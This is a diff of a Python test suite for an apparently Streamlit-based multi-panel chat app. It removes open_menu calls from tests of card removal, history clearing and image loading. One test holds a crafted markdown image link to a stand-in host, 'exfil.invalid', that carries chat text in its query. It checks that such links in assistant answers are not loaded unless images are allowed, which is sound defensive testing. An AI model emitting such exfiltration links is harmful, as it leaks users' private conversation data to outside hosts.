@@ -14,7 +14,6 @@ from tests.helpers import (
     error_texts,
     key,
     new_app,
-    open_menu,
     scenario_name,
     send_synced,
     send_to_card,
@@ -47,9 +46,7 @@ def test_add_card_then_remove_one_after_confirmation(
     at.button(key="add_card").click().run()
     assert len(cards(at)) == 3
     third = cards(at)[2]
-    assert not any("will be deleted" in w.value for w in at.warning)  # drawn when opened
-    open_menu(at, third, "x")
-    assert [w.value for w in at.warning if "will be deleted" in w.value]
+    assert any("will be deleted" in w.value for w in at.warning)
     at.button(key=key(third, "remove")).click().run()
     assert [c.id for c in cards(at)] != [] and third.id not in [c.id for c in cards(at)]
     assert len(cards(at)) == 2
@@ -59,11 +56,9 @@ def test_add_card_then_remove_one_after_confirmation(
 def test_last_card_cannot_be_removed(write_config: Config, scenario: MakeScenario) -> None:
     write_config(endpoints_toml(Alpha=scenario()))
     at = new_app()
-    open_menu(at, cards(at)[1], "x")
     at.button(key=key(cards(at)[1], "remove")).click().run()
     assert len(cards(at)) == 1
     only = cards(at)[0]
-    open_menu(at, only, "x")
     assert not [b for b in at.button if b.key == key(only, "remove")]
     assert any("last card cannot be removed" in c.value for c in at.caption)
 
@@ -95,7 +90,6 @@ def test_delete_chat_history_empties_only_that_card(
     send_synced(at, "hi all")
     first, second = cards(at)
     assert len(first.messages) == 2 and len(second.messages) == 2
-    open_menu(at, first, "more")
     at.button(key=key(first, "clear")).click().run()
     first, second = cards(at)
     assert first.messages == []
@@ -319,7 +313,6 @@ def test_images_in_answers_are_not_loaded_unless_allowed(
     assert "\\<b\\>bold" in answer  # raw HTML shown as text
     assert cards(at)[0].messages[-1].content == crafted  # the history keeps the original
     assert at.markdown[0].proto.allow_html is False  # raw HTML is never rendered
-    open_menu(at, first, "more")
     at.button(key=key(first, "images")).click().run()
     answer = next(m for m in at.chat_message if m.name == "assistant").markdown[0].value
     assert "![chart](<http://exfil.invalid/?q=my+secret+chat>)" in answer
